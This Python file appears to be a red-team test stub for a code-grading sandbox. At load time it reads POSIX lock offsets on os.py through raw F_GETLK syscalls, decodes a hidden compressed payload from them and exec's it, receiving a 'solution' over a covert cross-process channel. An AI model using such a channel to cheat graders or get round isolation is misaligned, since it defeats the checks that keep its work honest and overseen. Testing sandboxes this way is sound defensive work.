"""Red team 2 (a solution received through the kernel's lock table): a stub graded beside
r_lock_handover_server. For a few seconds while loading it walks the POSIX locks others hold on the
standard library's os.py with F_GETLK (allowed: it only asks), decodes byte i from the lock at BASE + 512 i + v,
and becomes the source it read. Marker: RTEAM2-LOCKS.

base: stub
class: 9
run: main
"""

import ctypes as _ctypes
import os as _os
import time as _time
import zlib as _zlib

_BASE = (int("@TOKEN@", 16) % 4096 + 1) << 36
_lock_libc = _ctypes.CDLL(None, use_errno=True)
_lock_libc.syscall.restype = _ctypes.c_long


def _read_locks(fd):
    probe = (_ctypes.c_int64 * 4)()
    found = {}
    start = _BASE
    while True:
        _ctypes.memmove(probe, (1).to_bytes(2, "little") + (0).to_bytes(2, "little"), 4)  # F_WRLCK, SEEK_SET
        probe[1], probe[2] = start, 0
        if _lock_libc.syscall(72, fd, 5, _ctypes.byref(probe)) != 0:  # F_GETLK
            break
        kind = int.from_bytes(bytes(probe)[:2], "little")
        if kind == 2:  # F_UNLCK: nothing more
            break
        offset, length = probe[1], probe[2] or 1
        relative = offset - _BASE
        if relative < 0:
            break
        found[relative // 512] = relative % 512
        start = offset + length
    return found


def _ask():
    deadline = _time.monotonic() + 6
    fd = _os.open(_os.__file__, _os.O_RDONLY)
    try:
        while _time.monotonic() < deadline:
            found = _read_locks(fd)
            if len(found) > 4:
                data = bytes(found.get(index, 0) for index in range(max(found) + 1))
                size = int.from_bytes(data[:4], "big")
                if len(data) >= size + 4:
                    try:
                        return _zlib.decompress(data[4:4 + size]).decode()
                    except _zlib.error:
                        pass
            _time.sleep(0.2)
    finally:
        _os.close(fd)
    return None


class _AtLoad:
    _found = _ask()
    if _found:
        exec(compile(_found, "handover", "exec"), globals())
